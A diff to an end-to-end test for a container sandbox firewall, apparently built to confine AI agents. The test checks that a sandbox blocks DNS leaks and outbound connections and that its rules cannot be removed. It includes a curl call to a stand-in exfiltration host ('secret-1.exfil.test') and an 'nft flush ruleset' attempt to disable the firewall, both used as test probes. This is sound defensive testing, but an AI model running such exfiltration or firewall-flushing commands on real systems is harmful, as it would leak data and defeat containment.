@@ -156,7 +156,8 @@ def test_template_up_applies_firewall_and_runs_as_dev(dockerenv, devcontainer):
         assert r.stdout == "200", (r.stdout, r.stderr)
         r = dc.exec_("curl -sS --max-time 5 http://secret-1.exfil.test/; echo rc=$?")
         assert "rc=6" in r.stdout, (r.stdout, r.stderr)
-        assert "secret-1" not in docker("logs", f"asb-e2e-dns-{dockerenv.tag}").stdout
+        log = dockerenv.dns_log()
+        assert "wild.test" in log and "secret-1" not in log, log
 
     t0 = time.monotonic()
     r = dc.exec_(f"curl -sS --max-time 5 http://{dockerenv.blocked_ip}/; echo rc=$?")
@@ -165,11 +166,11 @@ def test_template_up_applies_firewall_and_runs_as_dev(dockerenv, devcontainer):
     assert "Failed to connect" in r.stderr, r.stderr
     assert elapsed < 5, elapsed                       # the CLI itself takes about a second
 
-    before = dockerenv.ruleset(cid)     # after the blocked try: its reject counter moved
+    before = dockerenv.ruleset(cid, stable=True)     # after the blocked try: its reject counter moved
     r = dc.exec_("nft flush ruleset; echo rc=$?; /usr/sbin/agent-sandbox-init apply; echo rc=$?")
     codes = re.findall(r"rc=(\d+)", r.stdout)
     assert len(codes) == 2 and all(c != "0" for c in codes), (r.stdout, r.stderr)
-    assert dockerenv.ruleset(cid) == before
+    assert dockerenv.ruleset(cid, stable=True) == before
 
 
 def test_template_with_broken_policy_does_not_start(dockerenv, devcontainer_cli, tmp_path):
